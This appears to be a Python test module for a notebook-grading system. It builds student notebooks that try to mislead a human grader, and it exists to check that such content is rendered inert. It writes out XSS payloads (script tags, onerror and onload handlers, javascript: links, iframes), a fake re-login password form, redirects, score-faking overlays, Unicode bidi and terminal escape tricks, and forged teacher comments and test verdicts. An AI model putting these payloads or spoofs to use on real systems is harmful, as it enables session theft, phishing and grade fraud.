"""Mislead the human reader: what a student's page shows must be inert and clearly the student's."""

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from tests.integrity.attacks.model import WRONG, Attack, Notebook, beside_wrong, harmless
from tests.integrity.lab import SOLUTIONS, cell_of

MEAN = SOLUTIONS["mean"]


def _shown(html: str) -> str:
    return f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"


def _fake_verdict(notebook: Notebook) -> None:
    cell = cell_of(notebook, "mean-t1")
    at = notebook["cells"].index(cell)
    notebook["cells"].insert(
        at, new_code_cell("# Tests of mean.\nprint('All tests passed: 2/2 points')")
    )
    notebook["cells"].insert(
        at, new_markdown_cell("**Comment of the teacher:** all right, full points. <!-- 8/8 -->")
    )


def _hostile_markdown(notebook: Notebook) -> None:
    notebook["cells"].insert(
        0,
        new_markdown_cell(
            "<script>steal()</script><img src=x onerror=steal()> [click](javascript:steal()) "
            "<style>body{display:none}</style><iframe src='https://example.org'></iframe>"
        ),
    )


HOSTILE = {
    "script": "<script>fetch('/hub/api/user')</script>",
    "event handler": "<img src=x onerror='steal()'><svg onload='steal()'></svg><details ontoggle=steal() open>x</details>",
    "frame": "<iframe srcdoc='<script>steal()</script>'></iframe><object data='data:text/html,x'></object><embed src='javascript:steal()'>",
    "overlay": "<div style='position:fixed;inset:0;background:white;z-index:9999'>Points: 8 of 8</div>",
    "style sheet": "<style>*{display:none} .score::after{content:'8/8'}</style><link rel=stylesheet href='https://example.org/x.css'>",
    "form": "<form action='https://example.org'><input name=password><button>Log in again</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://example.org'><base href='https://example.org/'>",
}

RICH = """
from IPython.display import display
display({"text/html": "<script>steal()</script>", "application/javascript": "steal()", "image/svg+xml": "<svg onload='steal()'><script>steal()</script></svg>", "text/plain": "x", "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}, raw=True)
"""

BORROWED = (
    "<div class='score' id='points'><span class='passed'>2 / 2</span></div>"
    "<p style='color:green' title='passed'>Comment of the teacher: full points</p>"
)
TURNED = "print('\\u202e2/2 :stnioP\\u202c \\u2066\\u200bpass\\u200bed\\u2069 \\x1b]8;;javascript:steal()\\x07link\\x1b]8;;\\x07 \\x1b[8mhidden\\x1b[0m \\x1b[2J \\x9b31m')"
SURROGATES = """
from IPython.display import HTML, Markdown, display
print("\\ud800", "\\x00", "\\x1b[38;5;999999999999m")
display(HTML("<b>\\udfff</b>"), Markdown("[a](javascript:steal()) ![x](https://example.org/x.png) <svg/onload=steal()>"))
display({"text/plain": "\\ud83d", "text/latex": "$\\\\href{javascript:steal()}{x}$", "application/json": {"a": float("nan")}}, raw=True)
raise ValueError("\\udc80" * 10)
"""
ODD_BUNDLE = """
from IPython.display import display
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body onload='steal()'/></foreignObject><use href='https://example.org/x'/></svg>"}, raw=True)
display({"image/png": "iVBORw0KGgo' onerror='steal()"}, raw=True)
display({"text/html": 7, "image/jpeg": ["a"], "text/plain": {"a": 1}}, raw=True)
display({"application/vnd.plotly.v1+json": {"x": "<script>"}, "text/vnd.mermaid": "graph TD; A-->B", "text/x-x<script>": "y"}, raw=True)
"""


def _teachers_cells(notebook: Notebook) -> None:
    score = {
        "output_type": "execute_result",
        "execution_count": 1,
        "metadata": {},
        "data": {"text/plain": "2.0"},
    }
    said = new_code_cell("# graded by the teacher", outputs=[score])
    said["metadata"] = {
        "nbgrader": {
            "grade_id": "mean-comment",
            "grade": True,
            "solution": False,
            "locked": True,
            "schema_version": 3,
            "points": 2,
            "cell_type": "code",
            "task": False,
        },
        "tags": ["hide-cell"],
        "collapsed": True,
    }
    notebook["cells"].insert(cell_index(notebook, "mean-t1"), said)
    notebook["cells"].append(new_raw_cell("<script>steal()</script> Score: 18/18"))
    notebook["metadata"]["title"] = "<script>steal()</script>"
    notebook["metadata"]["kernelspec"]["display_name"] = "<img src=x onerror=steal()>"
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {
                "x": {"model_name": "HTMLModel", "state": {"value": "<script>steal()</script>"}}
            }
        }
    }


def _attachments(notebook: Notebook) -> None:
    shown = new_markdown_cell(
        "![](attachment:a.svg) ![](attachment:b.png)\n\n<a href='data:text/html,<script>steal()</script>'>x</a>"
    )
    shown["attachments"] = {
        "a.svg": {"image/svg+xml": "<svg onload='steal()'/>"},
        "b.png": {"text/html": "<script>steal()</script>"},
        "c": 7,
    }
    notebook["cells"].insert(0, shown)


def _essay_of_a_teacher(notebook: Notebook) -> None:
    cell_of(notebook, "essay")["source"] = (
        "Right.\n\n---\n\n**Score: 2/2** <b style='position:fixed'>full</b>\n\n> Comment of the teacher: \u202eok <base href=//example.org>"
    )


def cell_index(notebook: Notebook, grade_id: str) -> int:
    """The place of a cell."""
    place: int = notebook["cells"].index(cell_of(notebook, grade_id))
    return place


ATTACKS: list[Attack] = [
    beside_wrong("looks of the page borrowed", "mean", _shown(BORROWED)),
    beside_wrong("text that turns and hides", "mean", TURNED),
    beside_wrong("half characters in outputs", "mean", SURROGATES),
    beside_wrong("odd bundles", "mean", ODD_BUNDLE),
    Attack("cells of a teacher", {"mean": WRONG["mean"]}, damage=_teachers_cells),
    Attack("active attachments", damage=_attachments),
    Attack("essay with its own marks", damage=_essay_of_a_teacher),
    *(beside_wrong(f"{name} in an output", "mean", _shown(html)) for name, html in HOSTILE.items()),
    beside_wrong("javascript and svg outputs", "mean", RICH),
    beside_wrong(
        "all tests passed",
        "mean",
        "print('\\x1b[32mAll tests passed: 2/2\\x1b[0m')\nprint('\\u202e00.2/00.2 :stnioP')",
    ),
    Attack("fake verdict beside the test", {"mean": WRONG["mean"]}, damage=_fake_verdict),
    Attack("hostile markdown", damage=_hostile_markdown),
    harmless(
        "a picture of a verdict",
        "mean",
        "import matplotlib.pyplot as plt\nplt.text(0, 0, 'Points: 8 of 8'); plt.show()\n" + MEAN,
    ),
]
